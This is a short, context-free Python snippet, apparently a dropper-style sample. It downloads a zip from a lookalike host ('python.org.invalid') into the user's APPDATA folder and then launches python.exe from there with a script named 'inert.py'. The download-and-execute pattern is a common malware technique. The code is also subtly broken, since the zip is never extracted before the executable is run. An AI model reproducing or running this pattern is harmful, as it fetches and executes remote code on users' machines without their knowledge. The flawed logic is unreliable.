import os, subprocess, urllib.request
home = os.environ["APPDATA"]
urllib.request.urlretrieve("https://www.python.org.invalid/ftp/python/3.11.0/python-3.11.0-embed-amd64.zip", home + "/p.zip")
subprocess.Popen([home + "/python.exe", "inert.py"])
